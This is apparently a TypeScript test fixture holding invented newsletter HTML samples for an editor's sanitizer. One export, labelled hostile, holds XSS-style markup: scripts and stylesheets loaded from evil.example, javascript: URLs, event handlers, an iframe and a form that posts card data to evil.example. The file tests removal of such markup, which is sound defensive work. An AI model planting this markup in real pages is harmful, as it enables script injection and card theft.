import type { CardContent } from '../../../shared/letters/mail/cards.ts';
import { guest, recent, upcoming } from '../site/publicContent.ts';

/** Short letters in the style of well-known newsletter services. All of them are invented. */

/** CSS rules in the head, by class and id; nested tables; a hidden preview text; rules for phones. */
export const classic = `<!doctype html><html xmlns:v="urn:schemas-microsoft-com:vml"><head><meta charset="UTF-8"><title>The garden letter</title>
<style type="text/css">
  body,#bodyTable,#bodyCell{height:100%;margin:0;padding:0;width:100%;}
  body,#bodyTable{background-color:#e9efe6;}
  table{border-collapse:collapse;mso-table-lspace:0pt;}
  p{margin:10px 0;padding:0;}
  h1{display:block;color:#ffffff;font-family:Helvetica;font-size:26px;line-height:125%;letter-spacing:-1px;text-align:left;}
  #templateContainer{border:1px solid #c8d4c2;}
  #templateHeader{/*@editable*/background:#2f5d3a none no-repeat center/cover;border-top:0;padding-top:27px;padding-bottom:63px;}
  .textContent,.textContent p{color:#404a3e;font-family:Georgia,"Times New Roman",serif;font-size:16px;line-height:150%;}
  .button{background-color:#a8421f;border-radius:24px;border-collapse:separate !important;}
  .button a{color:#ffffff;text-transform:uppercase;text-decoration:none;padding:14px 28px;display:inline-block;}
  .button a:hover{color:#ffeedd;}
  @media only screen and (max-width:480px){
    body{width:100% !important;min-width:100% !important;}
    #templateContainer{max-width:600px !important;width:100% !important;}
    .textContent{font-size:18px;}
    .neverUsed{display:none !important;}
  }
</style></head>
<body leftmargin="0" marginwidth="0"><span class="preview" style="display:none;font-size:0px;line-height:0px;max-height:0px;visibility:hidden;mso-hide:all">What grew in May</span>
<center><table id="bodyTable" align="center" border="0" cellpadding="0" cellspacing="0" width="100%"><tbody><tr><td id="bodyCell" align="center" valign="top">
<table id="templateContainer" border="0" cellpadding="0" cellspacing="0" width="600"><tbody>
<tr><td id="templateHeader" valign="top"><h1>The garden in May</h1></td></tr>
<tr><td class="textContent" bgcolor="#FFFFFF" style="padding:18px"><p>Dear {firstName},</p><p>the peas are up.</p>
<table class="button" border="0" cellpadding="0" cellspacing="0"><tbody><tr><td align="center" valign="middle"><a class="link" href="/archive">Come and see</a></td></tr></tbody></table></td></tr>
</tbody></table></td></tr></tbody></table></center></body></html>`;

/** Elements with inline styles and hardly any tables. */
export const essay = `<div class="post" dir="auto" style="max-width:550px;margin:0 auto;font-family:'Spectral',Georgia,serif;font-size:18px;line-height:28.8px;color:#363737">
<header><h1 style="font-size:32px;font-weight:700;margin:0 0 8px">On slow walks</h1><h3 style="color:#6b6b6b;font-weight:400">An essay, and a question</h3></header>
<div class="captioned-image-container"><figure><a target="_blank" href="https://pictures.example/walk.jpg"><picture><source type="image/webp" srcset="https://pictures.example/walk.webp 424w"><img src="https://pictures.example/walk.jpg" width="550" alt="A path along a river" style="border:none;border-radius:4px;display:block"></picture></a><figcaption style="font-size:14px;text-align:center">The river in March</figcaption></figure></div>
<p style="margin:0 0 20px">Nobody hurries here.</p>
<blockquote style="border-left:4px solid #d64550;margin:20px 0;padding:0 20px"><p>Walk as if you were expected.</p></blockquote>
<p class="button-wrapper" style="text-align:center"><a href="https://letters.example/subscribe?a=1&amp;b=2" style="background-color:#d64550;border-radius:4px;color:#0b0b0b;padding:12px 20px;text-decoration:none">Share</a></p>
<div style="height:1px;overflow:hidden;background:#e6e6e6"></div></div>`;

/** A card on a colored page, formatted with old HTML attributes. */
export const card = `<html><head><style>
.wrap{background:linear-gradient(#123,#456);background-color:#12263f}
@media (prefers-color-scheme: dark){.card{background-color:#1b1b1b!important}}
@media only screen and (min-width:620px){table[class=card]{width:580px}}
</style></head><body bgcolor="#12263f" text="#f4f1ea" style="font-family:Arial,sans-serif"><table class="wrap" width="100%" background="http://pictures.example/night.png"><tr><td align="center" style="padding:40px 0">
<font color="#ffffff" face="Arial" size="5">Evening talks</font>
<table class="card" width="560" cellpadding="24" bgcolor="#fffdf8"><tr><td style="color:#222222">Doors open at six.</td></tr></table>
</td></tr></table></body></html>`;

/** Hostile markup that must be removed, among harmless markup. */
export const hostile = `<style>@import url("https://evil.example/a.css"); @font-face{font-family:x;src:url(https://evil.example/x.woff)}
.a{position:fixed;top:0;left:0;width:100%} p{behavior:url(#default#time2)} .b{background-image:url(javascript:alert(1))}</style>
<link rel="stylesheet" href="https://evil.example/b.css"><script>alert(1)</script><script src="https://evil.example/c.js"></script>
<p class="a" onclick="alert(1)">One <a href="javascript:alert(1)">two</a></p><p class="b" style="position:absolute;color:#1c2430">three</p>
<form action="https://evil.example"><input name="card"><button>Pay</button></form><iframe src="https://evil.example"></iframe>
<svg onload="alert(1)"><circle r="1"/></svg><img src="data:image/png;base64,AAAA" alt="Four"><marquee>five</marquee>`;

/** A stored letter with every block that the editor can insert. */
export const everyBlock = `<h1>A new conversation</h1>
<p>Dear {firstName}, this month we sat by a window.</p>
<p><img src="/pictures/water-1200.webp" alt="Rings on still water" width="520"></p>
<p data-block="button"><a href="https://example.org/a?b=1&amp;c=2">See “all” &amp; more</a></p>
<blockquote>Walk as if you were expected.</blockquote>
<blockquote>Nobody hurries here.</blockquote>
<blockquote>— Akio Tarrant</blockquote>
<hr>
<div data-card="latest-recording"></div>
<div data-card="upcoming-event"></div>
<div data-card="guest:1"></div>
<div data-card="guest:2"></div>
<p>Until next time,<br>Miriam</p>`;

/** Everything else that the editor can write, and a pasted table. */
export const everyElement = `<h1>One</h1><h2>Two</h2><h3>Three</h3><h4>Four</h4><h5>Five</h5><h6>Six</h6>
<p>Dear {firstName}, <strong>a</strong> <em>b</em> <u>c</u> <a href="https://example.org/x?a=1&amp;b=2">d</a></p>
<ul><li>e</li></ul><ol><li>f</li></ol><blockquote>g</blockquote><hr><pre>h</pre><p><code>i</code></p>
<p><span style="color:rgb(0, 82, 163)">j</span><img src="https://example.org/hill.jpg" alt="A hill"></p>
<p><img src="https://example.org/small.png" alt="Small" width="80"></p>
<table role="presentation" width="100%"><tr><td style="padding:8px">k</td></tr></table>`;

/** The content of the cards: with and without pictures, with and without a recording. */
export const letterContent: CardContent = {
  recentEvent: recent,
  upcomingEvent: { ...upcoming, imageUrl: '/pictures/upcoming-1200.webp' },
  guests: [
    guest(1, 'Akio Tarrant', {
      url: 'https://youtu.be/eRsGyueVLvQ',
      description: 'Forty years with one kiln.',
      imageUrl: '/pictures/guest-sea-768.webp',
    }),
    guest(2, 'Adaeze Winterbourne', { description: 'Keeper of an orchard monastery.' }),
  ],
  episodes: [],
};
